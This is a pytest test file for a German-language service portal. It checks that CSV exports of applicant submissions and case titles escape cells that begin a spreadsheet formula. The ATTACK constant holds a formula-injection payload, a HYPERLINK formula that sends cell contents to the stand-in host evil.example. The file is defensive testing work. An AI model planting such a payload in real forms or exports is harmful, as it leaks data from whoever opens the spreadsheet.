"""CSV exports never hand a spreadsheet a formula that an applicant typed."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from portal_site.accounts.models import User
from portal_site.documents.csv_safety import neutralise_cell
from serviceportal.form_pages import ServiceFormPage
from serviceportal.submission import Application, submit_application

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 561 787", "'+49 561 787"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-10,00", "-10,00"),
        ("+5", "+5"),
        ("Mustermann", "Mustermann"),
        (12, 12),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe(value, expected):
    assert neutralise_cell(value) == expected


def _submit(page, name: str):
    values = {"name": name, "email": "a@example.org"}
    submit_application(
        page=page,
        application=Application(
            token=uuid.uuid4(),
            answers=[{"name": k, "label": k, "value": v} for k, v in values.items()],
            values=values,
            applicant_name=name,
            applicant_email="a@example.org",
        ),
    )


def _csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def test_the_submissions_export_neutralises_an_applicant_s_formula(demo, client):
    page = ServiceFormPage.objects.get(
        locale__language_code="de", process_key="civil_status_certificate"
    )
    _submit(page, ATTACK)
    client.force_login(User.objects.get(username="standesamt"))
    rows = _csv_rows(client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + ATTACK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_case_list_export_neutralises_a_case_title(staff, client):
    from portal_site.accounts.models import OrgUnit
    from portal_site.cases.services import open_case

    open_case(
        process_key="generic",
        title=ATTACK,
        data={},
        office=OrgUnit.objects.get(short_name="34"),
    )
    client.force_login(User.objects.get(username="standesamt"))
    rows = _csv_rows(client.get("/admin/vorgangsliste/?export=csv"))
    assert any("'" + ATTACK in row for row in rows)
    assert not any(cell.startswith("=") for row in rows[1:] for cell in row)
